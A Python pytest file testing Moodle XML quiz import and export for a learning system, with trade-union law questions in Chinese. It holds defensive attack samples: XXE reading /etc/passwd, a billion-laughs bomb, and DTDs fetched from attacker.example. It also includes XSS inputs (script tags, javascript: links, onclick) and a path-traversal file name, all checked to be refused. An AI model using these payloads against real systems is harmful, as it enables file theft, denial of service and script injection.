"""Moodle XML import and export (lms.questions.formats.moodle_xml), on our own fixtures.

The fixtures in tests/data/moodle_xml/ mark each <question> line with a comment
(``<!-- key -->``); `line_of` finds it, so the tests do not hard-code lines.
"""

from __future__ import annotations

import dataclasses
import re
from decimal import Decimal as D
from pathlib import Path
from xml.etree.ElementTree import Element

import pytest
from defusedxml.ElementTree import fromstring
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.domain.items import (
    Blank,
    CaseStudySpec,
    DescriptionSpec,
    EssaySpec,
    FillBlankSpec,
    MatchingSpec,
    MultipleChoiceSpec,
    NumericAnswer,
    NumericSpec,
    OrderingSpec,
    OrderScoring,
    ParametricSpec,
    Scoring,
    SingleChoiceSpec,
    SubItem,
    ToleranceKind,
    TrueFalseSpec,
    UnitPolicy,
)
from lms.domain.markdown import render_markdown
from lms.domain.parametric import check_instances, compute_answer
from lms.domain.scoring import blank_accepts
from lms.questions.formats import moodle_xml
from lms.questions.formats.base import MAX_FILE_BYTES, BankItem, FormatError
from lms.questions.formats.moodle_xml import (
    MoodleExportError,
    check_export,
    export,
    html_to_markdown,
    parse,
)
from tests.unit import item_samples

DATA = Path(__file__).parents[1] / "data" / "moodle_xml"
PNG = bytes.fromhex("89504e470d0a1a0a") + b"rest of a PNG"


def read(name: str):
    return parse((DATA / name).read_bytes(), filename=name)


def line_of(name: str, key: str) -> str:
    """``name:line`` of the line carrying ``<!-- key -->``."""
    lines = (DATA / name).read_text(encoding="utf-8").split("\n")
    number = next(i for i, line in enumerate(lines, 1) if f"<!-- {key} -->" in line)
    return f"{name}:{number}"


@pytest.fixture(scope="module")
def all_types() -> dict[str, BankItem]:
    """The items of all_types.xml by the key of their line."""
    result = read("all_types.xml")
    lines = (DATA / "all_types.xml").read_text(encoding="utf-8").split("\n")
    by_key = {}
    for item in result.items:
        number = int(item.where.rsplit(":", 1)[1])
        by_key[re.search(r"<!-- (\S+) -->", lines[number - 1]).group(1)] = item
    return by_key


def strip_where(items: list[BankItem]) -> list[BankItem]:
    return [dataclasses.replace(item, where="") for item in items]


# ---------------------------------------------------------------- every type


EXPECTED_TYPES = {
    "single": SingleChoiceSpec, "multi-partial": MultipleChoiceSpec,
    "multi-thirds": MultipleChoiceSpec, "multi-zero": MultipleChoiceSpec,
    "truefalse": TrueFalseSpec, "shortanswer": FillBlankSpec, "wildcard": FillBlankSpec,
    "numerical": NumericSpec, "calculated": ParametricSpec, "calculatedsimple": ParametricSpec,
    "matching": MatchingSpec, "essay": EssaySpec, "description": DescriptionSpec,
    "cloze-blanks": FillBlankSpec, "cloze-case": CaseStudySpec, "ordering": OrderingSpec,
    "legacy-image": SingleChoiceSpec, "markdown": TrueFalseSpec, "plain": TrueFalseSpec,
}


def test_every_question_of_the_fixture_is_read_with_its_type_and_line(all_types):
    assert {key: type(item.spec) for key, item in all_types.items()} == EXPECTED_TYPES
    for key, item in all_types.items():
        assert item.where == line_of("all_types.xml", key)


def test_the_fixture_reports_only_the_expected_notes():
    problems = read("all_types.xml").problems
    assert [(p.where, p.reason.split(": ", 1)[1]) for p in problems] == [
        (line_of("all_types.xml", "multi-zero"),
         "scored all-or-nothing: without negative fractions for the wrong answers, ticking "
         "every answer would earn full marks"),
        (line_of("all_types.xml", "wildcard"),
         "answer '全总' (50 %) dropped: a blank gives full marks or none"),
        (line_of("all_types.xml", "numerical"),
         "unit '千元' (multiplier 0.001) dropped: only the base unit, with multiplier 1, "
         "is kept")]


def test_categories_lose_the_course_prefix_and_apply_to_the_questions_after_them(all_types):
    assert all_types["single"].category == "工会基础/建会条件"
    assert all_types["ordering"].category == "工会基础/建会条件"
    assert all_types["legacy-image"].category == "工会基础"  # the parent came after the child


def test_metadata_name_idnumber_tags_difficulty_and_statutes(all_types):
    item = all_types["single"]
    assert (item.title, item.external_id, item.tags, item.difficulty) == (
        "任期", "UC-001", ("工会法",), 2)
    assert item.statutes == ({"law": "中华人民共和国工会法", "version": "2021-12-24",
                              "articles": ["第十五条"]},)
    assert all_types["multi-partial"].statutes == (
        {"law": "中华人民共和国工会法", "version": "2021-12-24",
         "articles": ["第六条", "第二十条"]},
        {"law": "中华人民共和国劳动法", "version": "", "articles": []})


def test_html_becomes_markdown_without_scripts_styles_or_handlers(all_types):
    spec = all_types["single"].spec
    assert spec.stem == "基层工会委员会**每届**任期是几年？"
    assert spec.explanation == "见《工会法》第十五条。"
    assert spec.points == 2


def test_single_choice_keeps_fractions_and_shuffle(all_types):
    spec = all_types["single"].spec
    assert [(c.text, c.weight) for c in spec.choices] == [
        ("两年", 0), ("三年或五年", 100), ("十年", -50)]
    assert spec.shuffle is True
    assert len({c.id for c in spec.choices}) == 3


def test_multiple_choice_with_negative_fractions_is_partial(all_types):
    spec = all_types["multi-partial"].spec
    assert spec.scoring is Scoring.PARTIAL and spec.shuffle is False
    assert [c.weight for c in spec.choices] == [50, 50, -100]


def test_moodle_thirds_are_made_to_add_up_to_100(all_types):
    spec = all_types["multi-thirds"].spec
    assert [c.weight for c in spec.choices] == [D("33.33333"), D("33.33333"), D("33.33334"),
                                                -100]


def test_multiple_choice_without_negative_fractions_is_all_or_nothing(all_types):
    spec = all_types["multi-zero"].spec
    assert spec.scoring is Scoring.ALL_OR_NOTHING
    assert [c.weight for c in spec.choices] == [50, 50, 0]


def test_true_false_with_an_embedded_image(all_types):
    item = all_types["truefalse"]
    assert item.spec.answer is False
    assert item.files == (("徽章.png", item.files[0][1]),)
    assert item.files[0][1].startswith(b"\x89PNG")
    assert item.spec.stem == "工会经费可以用于企业经营。![会徽](%E5%BE%BD%E7%AB%A0.png)"


def test_short_answer_is_a_one_blank_fill_in(all_types):
    spec = all_types["shortanswer"].spec
    assert spec.stem == "中华全国总工会的英文缩写是 [[1]] 。"
    (blank,) = spec.blanks
    assert blank.accepted == ("ACFTU", "A.C.F.T.U.") and blank.case_sensitive
    assert blank.pattern is None  # the 0 % answer is only feedback


def test_short_answer_wildcards_become_a_pattern(all_types):
    spec = all_types["wildcard"].spec
    assert spec.stem == "我国工会的领导机关是什么？ [[1]]"
    (blank,) = spec.blanks
    assert blank.pattern == "中华全国总工会.*" and blank.accepted == ()
    assert blank_accepts(blank, "中华全国总工会（全总）")
    assert not blank_accepts(blank, "全总")


def test_numerical_answers_tolerances_and_unit(all_types):
    spec = all_types["numerical"].spec
    assert [(a.value, a.tolerance, a.weight) for a in spec.answers] == [
        (200, D("0.5"), 100), (145, 0, 50)]
    assert spec.unit == "元" and spec.unit_policy is UnitPolicy.REQUIRED


def test_calculated_becomes_parametric(all_types):
    spec = all_types["calculated"].spec
    assert spec.expression == "monthly / 21.75 * 2 * days"
    assert [(v.name, v.min, v.max, v.step) for v in spec.variables] == [
        ("monthly", 3000, 12000, 1), ("days", 1, 4, 1)]
    assert (spec.tolerance, spec.tolerance_kind, spec.places) == (
        D("0.01"), ToleranceKind.ABSOLUTE, 2)
    assert (spec.unit, spec.unit_policy) == ("元", UnitPolicy.OPTIONAL)
    check_instances(spec)
    assert compute_answer(spec, {"monthly": D(4350), "days": D(2)}) == 800


def test_calculated_simple_with_decimals_and_relative_tolerance(all_types):
    spec = all_types["calculatedsimple"].spec
    (variable,) = spec.variables
    assert (variable.min, variable.max, variable.step) == (D("2.5"), D("9.5"), D("0.1"))
    assert spec.expression == "round(a * a, 1)"
    assert (spec.tolerance, spec.tolerance_kind, spec.places) == (
        D("0.05"), ToleranceKind.RELATIVE, 1)


def test_matching_with_a_distractor(all_types):
    spec = all_types["matching"].spec
    assert [e.text for e in spec.lefts] == ["工会法", "劳动法", "劳动合同法"]
    assert [e.text for e in spec.rights] == ["1992年", "1994年", "2007年", "2010年"]
    texts = {e.id: e.text for e in spec.lefts + spec.rights}
    assert {texts[p.left]: texts[p.right] for p in spec.pairs} == {
        "工会法": "1992年", "劳动法": "1994年", "劳动合同法": "2007年"}
    assert spec.scoring is Scoring.PARTIAL and spec.shuffle is False


def test_essay_gets_one_criterion_with_the_grader_information(all_types):
    spec = all_types["essay"].spec
    (criterion,) = spec.rubric
    assert criterion.points == spec.points == 10
    assert criterion.description == "- 引用第二十一条\n- 提到调解委员会"
    assert spec.word_limit == 500


def test_description(all_types):
    assert all_types["description"].spec.stem == "### 第二部分：案例分析"


def test_cloze_of_short_answers_is_a_fill_in_weighted_by_marks(all_types):
    spec = all_types["cloze-blanks"].spec
    assert spec.stem == ("企业职工行使民主管理权力的机构是 [[1]]，中华全国总工会的英文缩写是 "
                         "[[2]]。")
    assert [(b.accepted, b.weight, b.case_sensitive) for b in spec.blanks] == [
        (("职工代表大会", "职代会"), 2, False), (("ACFTU",), 1, True)]
    assert spec.points == 3 and spec.explanation == "见工会法第六条。"


def test_mixed_cloze_is_a_case_study(all_types):
    spec = all_types["cloze-case"].spec
    assert spec.scenario.startswith("某公司有职工 200 人，拒绝与工会进行集体协商。\n\n1. 协商代表")
    assert [(s.id, type(s.spec), s.spec.points) for s in spec.sub_items] == [
        ("q1", NumericSpec, 1), ("q2", SingleChoiceSpec, 2), ("q3", MultipleChoiceSpec, 1),
        ("q4", FillBlankSpec, 1)]
    assert spec.points == 5
    numeric, choice, multi, blank = (s.spec for s in spec.sub_items)
    assert numeric.stem == r"协商代表每方人数至少为 \_\_\_\_ 人；"
    assert [(a.value, a.weight) for a in numeric.answers] == [(3, 100), (2, 50)]
    assert choice.shuffle and [c.weight for c in choice.choices] == [100, 0, 0]
    assert multi.scoring is Scoring.PARTIAL and [c.weight for c in multi.choices] == [100, -100]
    assert blank.stem == "签订集体合同的是 [[1]]。"


def test_ordering_keeps_the_file_order_as_the_key(all_types):
    spec = all_types["ordering"].spec
    assert [e.text for e in spec.items] == ["提出协商要约", "确定协商代表", "召开协商会议",
                                            "签订集体合同"]
    assert spec.scoring is OrderScoring.POSITIONS


def test_ids_are_hashes_of_the_text_so_they_reveal_neither_order_nor_key(all_types):
    items = all_types["ordering"].spec.items
    assert [e.id for e in items] == moodle_xml.opaque_ids(e.text for e in items)
    assert [e.id for e in items] != sorted(e.id for e in items)
    assert moodle_xml.opaque_ids(["甲", "甲"]) == ["k33e358", "k33e358-2"]


def test_legacy_image_is_kept_and_appended_to_the_text(all_types):
    item = all_types["legacy-image"]
    assert item.spec.stem == "图中是什么标志？\n\n![](pix_logo.png)"
    assert [name for name, _ in item.files] == ["pix_logo.png"]


def test_markdown_and_plain_text_formats(all_types):
    assert all_types["markdown"].spec.stem == "**职工代表大会**每年至少召开一次。"
    assert all_types["plain"].spec.stem == "2\\*3 = 6，对吗？  \n第二行"


# ---------------------------------------------------------------- problems


PROBLEMS = {
    "p-plugin": "question type 'order' is not supported",
    "p-notype": "has no type attribute",
    "p-calcmulti": "calculatedmulti",
    "p-sqrt": "no function 'sqrt'",
    "p-geometric": "only relative (1) and nominal (2) tolerances",
    "p-sigfig": "significant figures",
    "p-inline": "formulas inside the question text",
    "p-undeclared": "the formula: unknown variable (y)",
    "p-nofull": "no answer is worth 100 %",
    "p-zero-negative": "a wrong answer worth 0 % next to answers with negative fractions",
    "p-sum": "the positive fractions add up to 80 %, not 100 %",
    "p-fraction": "answer fraction '全对' is not a percentage",
    "p-sa-partial": "no answer is worth 100 %",
    "p-wildcards": "too many wildcards",
    "p-nan": "the answer '十五' is not a number",
    "p-star": "would accept any number",
    "p-cloze-none": "no embedded answers",
    "p-cloze-one": "needs at least 2 choices",
    "p-cloze-unclosed": "is malformed",
    "p-cloze-essay": "is worth 0 marks",
    "p-grade": "must be worth more than 0 points",
    "p-empty": "the question text: empty",
    "p-two-true": "exactly one of the true/false answers",
    "p-one-pair": "too few",
    "p-subset": "shows only 2 of its 3 items",
}


def test_every_broken_question_is_a_problem_at_its_line():
    result = read("problems.xml")
    found = {p.where: p.reason for p in result.problems}
    for key, reason in PROBLEMS.items():
        where = line_of("problems.xml", key)
        assert reason in found[where], key


def test_problems_name_the_question():
    result = read("problems.xml")
    first = result.problems[0]
    assert first.reason.startswith("question '插件题型': ")
    assert str(first) == f"{first.where}: {first.reason}"


def test_parsing_goes_on_after_problems_and_notes_dropped_files():
    result = read("problems.xml")
    assert [(type(i.spec), i.where) for i in result.items] == [
        (DescriptionSpec, line_of("problems.xml", "n-gif")),
        (TrueFalseSpec, line_of("problems.xml", "ok-last"))]
    assert result.items[0].files == () and result.items[0].spec.stem == "说明"
    notes = [p.reason for p in result.problems if p.where == line_of("problems.xml", "n-gif")]
    assert any("'anim.gif' dropped: only PNG, JPEG and WebP" in n for n in notes)
    assert any("'broken.png' dropped: not valid base64" in n for n in notes)
    assert any("etc/passwd' dropped: not a safe file name" in n for n in notes)
    assert any("data:image/png" in n for n in notes)


# ---------------------------------------------------------------- whole-file failures


def test_not_well_formed_xml_is_a_format_error_with_line_and_column():
    with pytest.raises(FormatError) as caught:
        parse(b'<?xml version="1.0"?>\n<quiz>\n  <question type="essay">\n</quiz>\n',
              filename="bad.xml")
    assert caught.value.problem.where == "bad.xml:4:3"
    assert "not well-formed XML: mismatched tag" in caught.value.problem.reason


def test_a_file_that_is_not_a_quiz_is_refused():
    with pytest.raises(FormatError, match="root element is <assessmentItem>"):
        parse(b"<assessmentItem/>", filename="qti.xml")


def test_an_empty_quiz_is_fine():
    result = parse(b"<quiz></quiz>", filename="empty.xml")
    assert result.items == [] and result.ok


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<quiz><question type="description"><questiontext><text>&xxe;</text></questiontext>
</question></quiz>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<quiz><question type="description"><questiontext><text>&lol9;</text></questiontext>
</question></quiz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.example/evil.dtd">
<quiz/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<quiz/>"""


@pytest.mark.parametrize("data", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity"])
def test_dtds_and_entities_are_refused(data):
    with pytest.raises(FormatError) as caught:
        parse(data, filename="evil.xml")
    assert caught.value.problem.where == "evil.xml"
    assert "DTD" in caught.value.problem.reason


def test_an_undeclared_entity_is_a_well_formedness_error():
    with pytest.raises(FormatError, match="undefined entity"):
        parse(b"<quiz>\n<question>&xxe;</question></quiz>", filename="e.xml")


def test_files_over_the_limit_are_refused_before_parsing():
    with pytest.raises(FormatError, match="larger than 20 MB"):
        parse(b"<quiz>" + b" " * MAX_FILE_BYTES + b"</quiz>", filename="big.xml")


def test_encodings_gb18030_and_a_declared_latin1():
    body = ('<quiz><question type="description"><questiontext format="plain_text">'
            "<text>{}</text></questiontext></question></quiz>")
    gbk = ('<?xml version="1.0" encoding="GB2312"?>' + body.format("工会章程")).encode("gb18030")
    assert parse(gbk, filename="g.xml").items[0].spec.stem == "工会章程"
    latin = ('<?xml version="1.0" encoding="ISO-8859-1"?>' + body.format("Años")).encode("latin-1")
    assert parse(latin, filename="l.xml").items[0].spec.stem == "Años"
    with pytest.raises(FormatError, match="unknown encoding"):
        parse(b'<?xml version="1.0" encoding="klingon"?><quiz/>', filename="k.xml")


# ---------------------------------------------------------------- round trip


def test_round_trip_keeps_every_item(all_types):
    original = read("all_types.xml")
    again = parse(export(original.items), filename="again.xml")
    assert strip_where(again.items) == strip_where(original.items)
    assert [p.reason for p in again.problems] == [
        p.reason for p in original.problems if "all-or-nothing" in p.reason]


@pytest.mark.parametrize("key", sorted(EXPECTED_TYPES))
def test_round_trip_per_type(all_types, key):
    item = all_types[key]
    (back,) = parse(export([item]), filename="one.xml").items
    assert dataclasses.replace(back, where="") == dataclasses.replace(item, where="")


def test_export_is_stable(all_types):
    once = export(list(all_types.values()))
    assert export(parse(once, filename="x.xml").items) == once


def test_export_is_well_formed_moodle_xml(all_types):
    root = fromstring(export(list(all_types.values())))
    assert root.tag == "quiz"
    questions = root.findall("question")
    assert [q.get("type") for q in questions][:2] == ["category", "multichoice"]
    for question in questions:
        if question.get("type") != "category":
            assert question.find("name/text").text
            assert question.find("questiontext/text") is not None


def _question(data: bytes, qtype: str) -> Element:
    return next(q for q in fromstring(data).findall("question") if q.get("type") == qtype)


def test_export_writes_reserved_tags_files_and_categories(all_types):
    data = export([all_types["single"], all_types["truefalse"], all_types["legacy-image"]])
    root = fromstring(data)
    categories = [q.find("category/text").text for q in root.findall("question")
                  if q.get("type") == "category"]
    assert categories == ["$course$/top/工会基础/建会条件", "$course$/top/工会基础"]
    tags = [t.text for t in _question(data, "multichoice").findall("tags/tag/text")]
    assert tags == ["工会法", "difficulty:2", "statute:中华人民共和国工会法|2021-12-24|第十五条"]
    truefalse = _question(data, "truefalse")
    assert truefalse.find("questiontext").get("format") == "markdown"
    assert "![会徽](@@PLUGINFILE@@/%E5%BE%BD%E7%AB%A0.png)" in truefalse.find(
        "questiontext/text").text
    assert truefalse.find("questiontext/file").get("name") == "徽章.png"


def test_an_uncategorised_item_after_a_category_goes_back_to_the_top(all_types):
    data = export([all_types["single"], dataclasses.replace(all_types["plain"], category="")])
    assert parse(data, filename="x.xml").items[1].category == ""
    assert "$course$/top</text>" in data.decode()


def test_files_nobody_refers_to_travel_with_the_question_text(all_types):
    item = dataclasses.replace(all_types["plain"], files=(("附件.png", PNG),))
    (back,) = parse(export([item]), filename="x.xml").items
    assert back.files == (("附件.png", PNG),)


def test_images_in_answers_are_embedded_in_the_answer(all_types):
    spec = all_types["single"].spec
    choices = (dataclasses.replace(spec.choices[0], text="![图](a.png)"), *spec.choices[1:])
    item = dataclasses.replace(all_types["single"], spec=dataclasses.replace(spec, choices=choices),
                               files=(("a.png", PNG),))
    data = export([item])
    answer = _question(data, "multichoice").find("answer")
    assert answer.find("file").get("name") == "a.png"
    assert _question(data, "multichoice").find("questiontext/file") is None
    (back,) = parse(data, filename="x.xml").items
    assert back.spec.choices[0].text == "![图](a.png)" and back.files == (("a.png", PNG),)


# ---------------------------------------------------------------- exporting our own items


EXPORTABLE = ["single_choice", "multiple_choice", "true_false", "fill_blank", "numeric",
              "parametric", "matching", "ordering", "essay", "case_study_auto", "description"]


@pytest.mark.parametrize("name", EXPORTABLE)
def test_every_exportable_sample_reads_back_as_the_same_type(name):
    spec = item_samples.ALL[name]()
    item = BankItem(spec=spec, title="样题", tags=("样例",), difficulty=3)
    (back,) = parse(export([item]), filename="x.xml").items
    assert type(back.spec) is type(spec)
    assert (back.spec.points, back.spec.explanation) == (spec.points, spec.explanation)
    assert (back.title, back.tags, back.difficulty) == ("样题", ("样例",), 3)
    again = parse(export([back]), filename="y.xml").items
    assert strip_where(again) == strip_where([back])


def test_samples_keep_their_keys():
    def back(spec):
        return parse(export([BankItem(spec=spec)]), filename="x.xml").items[0].spec

    single = back(item_samples.single())
    assert [(c.text, c.weight) for c in single.choices] == [
        (c.text, c.weight) for c in item_samples.single().choices]
    blanks = back(item_samples.fill_blank())
    assert blanks.stem == item_samples.fill_blank().stem
    assert [b.accepted for b in blanks.blanks] == [("第十一条", "第11条"), ("ABCSECRET",)]
    numeric = back(item_samples.numeric())
    assert [(a.value, a.tolerance, a.weight) for a in numeric.answers] == [
        (D("200.00"), D("0.01"), 100), (145, 0, 50)]
    assert numeric.unit == "元"
    parametric = back(item_samples.parametric())
    assert parametric.expression == item_samples.parametric().expression
    assert [v.name for v in parametric.variables] == ["monthly", "hours"]
    essay = back(item_samples.essay())
    assert essay.word_limit == 500 and essay.rubric[0].points == 10
    assert "**法律依据** (4): RUBRICSECRET 引用第二十一条" in essay.rubric[0].description


def test_a_relative_tolerance_is_written_as_an_absolute_one():
    spec = NumericSpec(stem="年休假天数？", points=D(1),
                       answers=(NumericAnswer(D(200), D("0.01"), ToleranceKind.RELATIVE),))
    back = parse(export([BankItem(spec=spec)]), filename="x.xml").items[0].spec
    assert (back.answers[0].tolerance, back.answers[0].tolerance_kind) == (
        2, ToleranceKind.ABSOLUTE)


def test_items_moodle_cannot_hold_are_listed_and_refused():
    items = [BankItem(spec=item_samples.single()),
             BankItem(spec=item_samples.parametric_by_calculator(), title="按计算器"),
             BankItem(spec=item_samples.case_study(), where="bank.yaml:12"),
             BankItem(spec=FillBlankSpec(stem="正则 [[1]]", points=D(1),
                                         blanks=(Blank(1, pattern=r"\d{4}年"),)))]
    problems = check_export(items)
    assert [p.where for p in problems] == [
        "item 2 (按计算器)", "bank.yaml:12", "item 4 (正则 ____)"]
    assert "calculator-based" in problems[0].reason
    assert problems[1].reason == (
        "sub-items q2 (fill-in with 2 blanks), q3 (parametric), q4 (essay) cannot be part of a "
        "Moodle cloze (only choices, numbers and one-blank fill-ins can)")
    assert "only know the * wildcard" in problems[2].reason
    with pytest.raises(MoodleExportError) as caught:
        export(items)
    assert caught.value.problems == problems


def test_wildcard_patterns_go_back_to_moodle_wildcards():
    blank = Blank(1, pattern="(?:中华全国总工会.*|全总)")
    spec = FillBlankSpec(stem="领导机关是 [[1]]", points=D(1), blanks=(blank,))
    data = export([BankItem(spec=spec)])
    answers = [a.text for a in _question(data, "shortanswer").findall("answer/text")]
    assert answers == ["中华全国总工会*", "全总"]
    (back,) = parse(data, filename="x.xml").items[0].spec.blanks
    assert (back.accepted, back.pattern) == (("全总",), "中华全国总工会.*")


def test_a_literal_star_is_escaped_for_moodle():
    spec = FillBlankSpec(stem="乘号是 [[1]]", points=D(1), blanks=(Blank(1, accepted=("*",)),))
    data = export([BankItem(spec=spec)])
    assert _question(data, "shortanswer").find("answer/text").text == "\\*"
    assert parse(data, filename="x.xml").items[0].spec.blanks[0].accepted == ("*",)


def test_an_authored_case_study_gets_its_parts_appended():
    spec = CaseStudySpec(stem="根据案例作答。", scenario="某公司拒绝集体协商。", points=D(3),
                         sub_items=(SubItem("a", item_samples.single()),
                                    SubItem("b", FillBlankSpec(
                                        stem="协商应当采用 [[1]] 形式。", points=D(1),
                                        blanks=(Blank(1, accepted=("书面",)),)))))
    data = export([BankItem(spec=spec)])
    text = _question(data, "cloze").find("questiontext/text").text
    assert text.startswith("<p>根据案例作答。</p>\n<p>某公司拒绝集体协商。</p>")
    assert "协商应当采用 {1:SHORTANSWER:=书面} 形式。" in text
    back = parse(data, filename="x.xml").items[0].spec
    assert [type(s.spec) for s in back.sub_items] == [SingleChoiceSpec, FillBlankSpec]
    assert back.sub_items[1].spec.stem == "协商应当采用 [[1]] 形式。"


def test_cloze_answers_with_special_characters_survive():
    blank = Blank(1, accepted=("a}b#c~d", "x<y&z"))
    spec = FillBlankSpec(stem="[[1]] 和 [[2]]", points=D(2),
                         blanks=(blank, Blank(2, accepted=("ok",))))
    back = parse(export([BankItem(spec=spec)]), filename="x.xml").items[0].spec
    assert back.blanks[0].accepted == ("a}b#c~d", "x<y&z")


# ---------------------------------------------------------------- HTML → Markdown


def test_html_to_markdown_keeps_structure():
    html = ("<p>工会法第<strong>十一</strong>条：</p><ul><li>建会 <b> 条件 </b></li>"
            "<li>会员<ol><li>甲</li><li>乙</li></ol></li></ul><p>a<br>b</p>")
    assert html_to_markdown(html) == (
        "工会法第**十一**条：\n\n- 建会 **条件**\n- 会员\n  1. 甲\n  2. 乙\n\na  \nb")


def test_html_to_markdown_drops_unsafe_things():
    html = ('<script>alert(1)</script><p onclick="x()">Hi <a href="javascript:alert(1)">link</a>'
            ' <a href="https://example.org/a b">ok</a></p><style>p{}</style>'
            '<iframe src="https://evil.example">inside</iframe><img src="javascript:x">')
    markdown = html_to_markdown(html)
    assert markdown == "Hi link [ok](https://example.org/a%20b)"
    assert "<" not in render_markdown(markdown).replace("<p>", "").replace("</p>", "") \
        .replace('<a href="https://example.org/a%20b" rel="noopener noreferrer">', "") \
        .replace("</a>", "")


def test_html_to_markdown_escapes_markdown_in_text():
    assert html_to_markdown("<p>2*3*4 a_b [x] # 1. &lt;b&gt;</p><p>1. 不是列表</p>") == (
        "2\\*3\\*4 a\\_b \\[x\\] # 1. \\<b>\n\n1\\. 不是列表")


@pytest.mark.parametrize("markdown", [
    "工会法第**十一**条：\n\n- 建会\n- 会员\n  1. 甲\n  2. 乙",
    "a  \nb\n\n> 引用\n\n### 标题",
    "2\\*3 \\[x\\] *斜体* `code`",
    "| 项目 | 金额 |\n| --- | --- |\n| 工资 | 4350 |",
    "```\ncode  x\n  y\n```",
    "![会徽](logo.png) [链接](https://example.org)",
])
def test_markdown_survives_a_trip_through_html(markdown):
    def keep(src: str) -> str:
        return src

    assert html_to_markdown(render_markdown(markdown), keep) == markdown


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>/ab=\"'!-&;#{}:~*_[]工会\n p li ul script"))))
def test_html_to_markdown_never_fails_and_never_lets_markup_through(text):
    rendered = render_markdown(html_to_markdown(text))
    assert "<script" not in rendered and "onclick" not in rendered


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("{}:~#%=*\\&amp;1SAMCNUR_工会 .<>"))))
def test_any_cloze_text_gives_items_or_problems(text):
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    data = (f'<quiz><question type="cloze"><name><text>x</text></name><questiontext format="html">'
            f"<text>{escaped}</text></questiontext></question></quiz>").encode()
    result = parse(data, filename="fuzz.xml")
    assert len(result.items) + len({p.where for p in result.problems}) >= 1


def test_long_unclosed_markup_is_read_quickly():
    import time

    start = time.monotonic()
    html_to_markdown("<a " * 50_000 + "<!--" * 50_000)
    with pytest.raises(moodle_xml._Skip):
        moodle_xml._cloze_parts("{1:MULTICHOICE:" + "a~" * 50_000)
    assert time.monotonic() - start < 5
